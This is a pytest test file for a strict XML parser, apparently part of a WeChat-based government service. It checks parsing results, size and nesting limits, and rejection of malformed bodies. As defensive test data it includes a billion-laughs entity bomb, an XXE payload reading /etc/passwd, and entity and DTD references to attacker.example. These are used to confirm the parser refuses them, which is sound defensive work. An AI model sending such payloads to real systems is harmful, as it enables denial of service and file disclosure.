"""The strict expat-based parser: shape of the result and refusal of hostile bodies."""

from __future__ import annotations

import pytest

from weizheng.wechat.protocol import TooLargeError, XMLError, parse_xml

SCANCODE_XML = """<xml><ToUserName><![CDATA[gh_2f1c9a7e3b45]]></ToUserName>
<FromUserName><![CDATA[oVx3Rs4k2PZ_citizen]]></FromUserName>
<CreateTime>1718000000</CreateTime>
<MsgType><![CDATA[event]]></MsgType>
<Event><![CDATA[scancode_waitmsg]]></Event>
<EventKey><![CDATA[scan_license]]></EventKey>
<ScanCodeInfo><ScanType><![CDATA[qrcode]]></ScanType>
<ScanResult><![CDATA[https://zw.example.gov.cn/q/1]]></ScanResult>
</ScanCodeInfo>
</xml>"""

PICS_XML = """<xml><ToUserName><![CDATA[gh_2f1c9a7e3b45]]></ToUserName>
<SendPicsInfo><Count>2</Count>
<PicList><item><PicMd5Sum><![CDATA[1b5f7c23b5bf75682a53e7b6d163e185]]></PicMd5Sum></item>
<item><PicMd5Sum><![CDATA[a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4]]></PicMd5Sum></item>
</PicList>
</SendPicsInfo>
</xml>"""


def test_parses_leaves_to_their_exact_text() -> None:
    fields = parse_xml(
        "<xml><Content><![CDATA[  你好 ]]></Content><A> x </A><B></B><C/></xml>".encode()
    )
    assert fields == {"Content": "  你好 ", "A": " x ", "B": "", "C": ""}


def test_joins_cdata_and_text_in_one_leaf() -> None:
    fields = parse_xml(
        b"<xml><Content>a&lt;<![CDATA[b]]>c<![CDATA[]]]]><![CDATA[>]]></Content></xml>"
    )
    assert fields["Content"] == "a<bc]]>"


def test_parses_nested_elements_to_dicts() -> None:
    fields = parse_xml(SCANCODE_XML.encode())
    assert fields["Event"] == "scancode_waitmsg"
    assert fields["ScanCodeInfo"] == {
        "ScanType": "qrcode",
        "ScanResult": "https://zw.example.gov.cn/q/1",
    }


def test_parses_item_children_to_a_list_of_dicts() -> None:
    info = parse_xml(PICS_XML.encode())["SendPicsInfo"]
    assert info["Count"] == "2"
    assert info["PicList"] == {
        "item": [
            {"PicMd5Sum": "1b5f7c23b5bf75682a53e7b6d163e185"},
            {"PicMd5Sum": "a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4"},
        ]
    }


def test_a_single_item_is_still_a_list() -> None:
    fields = parse_xml(b"<xml><PicList><item><PicMd5Sum>abc</PicMd5Sum></item></PicList></xml>")
    assert fields["PicList"] == {"item": [{"PicMd5Sum": "abc"}]}


def test_repeated_names_are_all_kept() -> None:
    fields = parse_xml(
        b"<xml><Popup><List><TemplateId>t1</TemplateId></List>"
        b"<List><TemplateId>t2</TemplateId></List><List><TemplateId>t3</TemplateId></List></Popup></xml>"
    )
    assert fields["Popup"]["List"] == [{"TemplateId": f"t{n}"} for n in (1, 2, 3)]


def test_ignores_attributes_and_accepts_an_xml_declaration() -> None:
    fields = parse_xml(b'<?xml version="1.0" encoding="UTF-8"?><xml><A lang="zh">1</A></xml>')
    assert fields == {"A": "1"}


def test_an_empty_root_is_an_empty_dict() -> None:
    assert parse_xml(b"<xml></xml>") == {}
    assert parse_xml(b"<xml>\n  </xml>") == {}


def test_accepts_a_str_body() -> None:
    assert parse_xml("<xml><Content>办理进度</Content></xml>") == {"Content": "办理进度"}


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<xml><Content>&lol9;</Content></xml>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>gh_2f1c9a7e3b45</ToUserName><Content>&xxe;</Content></xml>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<xml><Content>x</Content></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><Content>x</Content></xml>"""


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, XXE, PARAMETER_ENTITY, EXTERNAL_DTD, b"<!DOCTYPE xml><xml></xml>"],
    ids=["billion_laughs", "xxe_file", "parameter_entity", "external_dtd", "empty_doctype"],
)
def test_refuses_any_dtd(body: bytes) -> None:
    with pytest.raises(XMLError) as info:
        parse_xml(body)
    assert info.value.reason == "forbidden_dtd"
    assert info.value.status == 400


def test_undeclared_entities_are_malformed() -> None:
    with pytest.raises(XMLError) as info:
        parse_xml(b"<xml><Content>&xxe;</Content></xml>")
    assert info.value.reason == "malformed_xml"


def test_refuses_a_body_over_the_size_limit_with_413() -> None:
    body = b"<xml><Content>" + b"a" * (2 * 1024 * 1024) + b"</Content></xml>"
    with pytest.raises(TooLargeError) as info:
        parse_xml(body)
    assert info.value.reason == "too_large"
    assert info.value.status == 413


def test_size_limit_is_configurable() -> None:
    body = b"<xml><Content>abc</Content></xml>"
    assert parse_xml(body, max_bytes=len(body)) == {"Content": "abc"}
    with pytest.raises(TooLargeError):
        parse_xml(body, max_bytes=len(body) - 1)


def test_refuses_nesting_50_deep() -> None:
    body = b"<xml>" + b"<a>" * 49 + b"x" + b"</a>" * 49 + b"</xml>"
    with pytest.raises(XMLError) as info:
        parse_xml(body)
    assert info.value.reason == "too_deep"


def test_depth_limit_counts_the_root() -> None:
    five = b"<xml><a><b><c><d>x</d></c></b></a></xml>"
    assert parse_xml(five, max_depth=5) == {"a": {"b": {"c": {"d": "x"}}}}
    with pytest.raises(XMLError) as info:
        parse_xml(five, max_depth=4)
    assert info.value.reason == "too_deep"


@pytest.mark.parametrize(
    "body",
    [
        b"<xml><ToUserName><![CDATA[gh_2f1c9a7e3b45]]></ToUserName><Content>",
        b'{"ToUserName": "gh_2f1c9a7e3b45", "MsgType": "text"}',
        b"",
        b"   ",
        b"<root><Content>x</Content></root>",
        b"<xml><A>1</A></xml><xml><A>2</A></xml>",
        b"<xml><A>1</B></xml>",
        "<xml><Content>社保</Content></xml>".encode("gbk"),
        '<?xml version="1.0" encoding="GBK"?><xml><Content>社保</Content></xml>'.encode("gbk"),
        "<xml><Content>x</Content></xml>".encode("utf-16"),
        b"<xml><Content>\x01</Content></xml>",
        b"success",
    ],
    ids=[
        "truncated",
        "json",
        "empty",
        "blank",
        "wrong_root",
        "two_roots",
        "mismatched_tag",
        "gbk",
        "gbk_declared",
        "utf16",
        "control_char",
        "plain_text",
    ],
)
def test_refuses_malformed_bodies(body: bytes) -> None:
    with pytest.raises(XMLError) as info:
        parse_xml(body)
    assert info.value.reason == "malformed_xml"
    assert info.value.status == 400
